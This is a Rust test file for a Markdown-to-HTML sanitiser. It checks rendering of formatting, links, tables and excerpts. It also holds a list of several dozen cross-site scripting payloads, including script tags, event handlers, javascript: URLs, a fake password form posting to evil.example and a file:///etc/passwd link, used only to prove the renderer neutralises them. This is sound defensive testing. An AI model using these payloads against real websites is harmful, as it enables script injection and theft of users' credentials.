//! What writers can do, and what nobody can.

use super::{excerpt, plain, render};

#[test]
fn the_marks_people_use_are_shown() {
    assert_eq!(
        render("a **b** *c* ~~d~~ `e`"),
        "<p>a <strong>b</strong> <em>c</em> <del>d</del> <code>e</code></p>\n"
    );
    assert_eq!(render("# One\n\n## Two"), "<h3>One</h3>\n<h4>Two</h4>\n");
    assert_eq!(
        render("- [x] paint\n- [ ] dry"),
        "<ul>\n<li><input type=\"checkbox\" aria-label=\"done\" checked=\"\" disabled=\"\"> paint</li>\n\
         <li><input type=\"checkbox\" aria-label=\"to do\" disabled=\"\"> dry</li>\n</ul>\n"
    );
    let table = render("| Part | Price |\n|:--|--:|\n| screw | 1 |");
    assert!(
        table.contains("<th>Part</th>") && table.contains("<td>1</td>"),
        "{table}"
    );
    assert_eq!(
        render("```rust\nlet a = 1;\n```"),
        "<pre tabindex=\"0\"><code>let a = 1;\n</code></pre>\n"
    );
    assert_eq!(render("3. c"), "<ol start=\"3\">\n<li>c</li>\n</ol>\n");
}

#[test]
fn links_lead_out_without_recommending() {
    assert_eq!(
        render("[shop](https://example.com \"the shop\")"),
        "<p><a href=\"https://example.com\" title=\"the shop\" rel=\"nofollow ugc noopener\">shop</a></p>\n"
    );
    assert!(render("<mail@example.com>").contains("href=\"mailto:mail@example.com\""));
    assert!(render("[here](/ideas/7)").contains("href=\"/ideas/7\""));
}

#[test]
fn images_are_links_and_no_link_is_without_words() {
    let image = render("![a chair](https://example.com/chair.png)");
    assert!(
        image.contains("<a href=\"https://example.com/chair.png\"")
            && image.contains(">a chair</a>")
    );
    assert!(!image.contains("<img"));
    assert!(render("![](https://example.com/c.png)").contains(">https://example.com/c.png</a>"));
    assert!(render("[](https://example.com)").contains(">https://example.com</a>"));
}

/// Ways to make a page run something, each of which must come out as text, as
/// a link to nowhere, or not at all.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://example.com/x.png)",
    "[x](https://example.com \"t\" onmouseover=alert(1))",
    "[x](https://example.com '\" onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "# h {onclick=alert(1)}",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "<iframe src=https://example.com></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example>",
    "<details open ontoggle=alert(1)>x</details>",
    "<textarea></textarea><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</p></div><script>alert(1)</script>",
    "| a |\n|--|\n| <img src=x onerror=alert(1)> |",
    "- [x] <input autofocus onfocus=alert(1)>",
    "<x style=\"position:fixed;inset:0\">x</x>",
    "<p id=account class=admin>x</p>",
];

#[test]
fn nothing_a_writer_types_runs() {
    let allowed_attributes = [
        "href",
        "title",
        "rel",
        "start",
        "type",
        "checked",
        "disabled",
        "aria-label",
        "tabindex",
    ];
    for attack in ATTACKS {
        let shown = render(attack);
        for tag in tags(&shown) {
            let mut parts = tag.trim_matches('/').splitn(2, ' ');
            let name = parts.next().unwrap_or_default();
            assert!(super::TAGS.contains(&name), "{attack}\nshows <{tag}>");
            for attribute in attributes(parts.next().unwrap_or_default()) {
                assert!(
                    allowed_attributes.contains(&attribute.0.as_str()),
                    "{attack}\nshows <{tag}>"
                );
                if attribute.0 == "href" {
                    let harmless = ["https://", "http://", "mailto:"];
                    let relative = !attribute.1.contains(':');
                    assert!(
                        relative || harmless.iter().any(|start| attribute.1.starts_with(start)),
                        "{attack}\nshows <{tag}>"
                    );
                }
            }
        }
    }
}

#[test]
fn raw_html_is_shown_as_it_was_typed() {
    assert!(render("I mean <b>bold</b>.").contains("I mean &lt;b&gt;bold&lt;/b&gt;."));
    assert!(render("<div>\nblock\n</div>").starts_with("<p>&lt;div&gt;"));
}

#[test]
fn entities_hide_and_reverse_nothing() {
    let tricks = "[pay&#x202E;moc](https://a.example \"t&#8238;\") &rlm;&ZeroWidthSpace;&#1;&shy;b";
    for shown in [render(tricks), plain(tricks), excerpt(tricks)] {
        let hidden =
            |c: char| c.is_control() && c != '\n' || "\u{202E}\u{200F}\u{200B}\u{AD}".contains(c);
        assert!(!shown.contains(hidden), "{shown:?}");
        assert!(shown.contains("paymoc"), "{shown:?}");
    }
    assert!(
        render("a \u{1F469}\u{200D}\u{1F33E}").contains('\u{200D}'),
        "emoji stay whole"
    );
}

#[test]
fn deep_and_endless_nesting_is_survived() {
    for knot in [">", "[", "*", "- ", "![", "<div>", "|", "`", "_a", "(["] {
        assert!(!render(&knot.repeat(20_000 / knot.len())).is_empty() || knot == "- ");
    }
}

/// The inside of every tag.
fn tags(html: &str) -> impl Iterator<Item = &str> {
    html.split('<')
        .skip(1)
        .map(|rest| rest.split('>').next().unwrap_or(rest))
}

/// Names and values of a tag as the sanitiser writes it: always quoted.
fn attributes(inside: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = inside;
    while let Some((name, after)) = rest.split_once("=\"") {
        let (value, after) = after.split_once('"').expect("a closed quote");
        found.push((name.trim().to_owned(), value.to_owned()));
        rest = after;
    }
    assert!(rest.trim().is_empty(), "left over: {rest}");
    found
}

#[test]
fn an_excerpt_is_plain_and_ends_between_words() {
    assert_eq!(
        excerpt("# Why\n\nBecause **it** `works`:\n- one\n- [two](https://x.example)"),
        "Why Because it works: one two"
    );
    let long = excerpt(&"screws and dowels, ".repeat(40));
    assert!(long.chars().count() <= 220, "{}", long.chars().count());
    assert!(
        long.ends_with("dowels…") || long.ends_with("screws…") || long.ends_with("and…"),
        "{long}"
    );
    assert_eq!(excerpt(&"ä".repeat(300)).chars().count(), 220);
    assert_eq!(excerpt("short"), "short");
    assert_eq!(plain("a\nb  \nc<br>d"), "a b c<br>d");
}
